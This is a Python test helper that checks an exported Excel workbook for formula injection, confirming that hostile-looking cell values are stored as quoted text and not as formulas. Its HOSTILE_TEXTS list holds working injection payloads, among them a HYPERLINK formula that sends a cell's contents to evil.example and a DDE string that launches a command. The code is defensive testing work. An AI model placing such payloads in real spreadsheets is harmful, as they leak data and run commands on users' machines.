"""A written workbook read back as a spreadsheet program sees it: what it evaluates, and how a text shows."""

import re
import zipfile
from io import BytesIO

from openpyxl import load_workbook

# Names and titles a hostile or careless user might give, each of which a spreadsheet program runs or
# evaluates when it is a formula (or a DDE command) rather than text.
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/?"&B2,"点击")',
    "=cmd|' /C calc'!A0",
    "+86 13800001111",
    "-2+3",
    "@SUM(1+1)",
)


def formulas(data: bytes) -> list[str]:
    """Every formula in the workbook: the cells openpyxl reads as one, and any <f> element in a sheet's XML."""
    book = load_workbook(BytesIO(data))
    cells = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    with zipfile.ZipFile(BytesIO(data)) as archive:
        elements = [
            f"{name}: <f>"
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", archive.read(name))
        ]
    return cells + elements


def cells_holding(data: bytes, text: str) -> list:
    """The cells whose value is exactly `text`."""
    book = load_workbook(BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value == text]


def assert_held_as_text(data: bytes, texts=HOSTILE_TEXTS) -> None:
    """Each text is in the workbook, as text that an edit keeps text; nothing in it is a formula."""
    found = formulas(data)
    assert not found, f"formulas in the workbook: {found}"
    for text in texts:
        cells = cells_holding(data, text)
        assert cells, f"no cell holds {text!r}"
        wrong = [(c.coordinate, c.data_type, c.quotePrefix) for c in cells if c.data_type != "s" or not c.quotePrefix]
        assert not wrong, f"{text!r} is not held as text (cell, type, quote prefix): {wrong}"
